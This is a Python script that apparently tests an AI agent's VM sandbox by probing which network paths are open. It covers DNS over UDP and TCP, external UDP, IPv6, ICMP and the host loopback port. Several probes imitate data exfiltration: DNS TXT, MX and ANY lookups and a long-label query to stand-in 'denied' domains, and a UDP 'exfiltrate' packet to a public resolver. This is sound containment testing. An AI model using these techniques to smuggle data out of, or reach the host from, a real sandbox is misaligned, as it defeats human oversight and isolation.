# Runs inside the VM (as the agent would): probes what the guest's network lets through and
# prints one line per probe. Usage: network-probe.py HOST_LOOPBACK_PORT
import socket
import struct
import sys


def query(name, qtype, tcp=False):
    packet = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    packet += b"".join(bytes([len(label)]) + label.encode() for label in name.rstrip(".").split(".")) + b"\0"
    packet += struct.pack(">HH", qtype, 1)
    if tcp:
        s = socket.create_connection(("127.0.0.53", 53), timeout=5)
        s.sendall(struct.pack(">H", len(packet)) + packet)
        length = struct.unpack(">H", s.recv(2))[0]
        reply = s.recv(length)
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(packet, ("127.0.0.53", 53))
        reply = s.recv(4096)
    rcode = reply[3] & 0xF
    answers = struct.unpack(">H", reply[6:8])[0]
    address = socket.inet_ntoa(reply[-4:]) if qtype == 1 and answers else "-"
    return f"rcode={rcode} answers={answers} address={address}"


print("dns-a", query("example.com", 1))
print("dns-a-again", query("EXAMPLE.com.", 1))
print("dns-a-tcp", query("example.com", 1, tcp=True))
print("dns-aaaa", query("example.com", 28))
for name, qtype in [("TXT", 16), ("MX", 15), ("ANY", 255)]:
    print("dns-" + name.lower(), query("secret-data.denied.example", qtype))
print("dns-long", query("a" * 60 + "." + "b" * 60 + ".exfil.denied.example", 1))
print("localhost", socket.gethostbyname("localhost"))
print("getaddrinfo", socket.getaddrinfo("api.example.org", 443, socket.AF_INET)[0][4][0])

try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"exfiltrate", ("8.8.8.8", 53))
    print("udp-external sent")
except OSError as error:
    print("udp-external blocked", error.errno)

try:
    socket.create_connection(("2001:db8::1", 80), timeout=3)
    print("ipv6 connected")
except OSError:
    print("ipv6 blocked")

try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"ping", ("1.1.1.1", 0))
    s.settimeout(2)
    s.recv(64)
    print("icmp answered")
except OSError:
    print("icmp blocked")

try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=3)
    print("loopback reached-the-host")
except OSError:
    print("loopback refused")
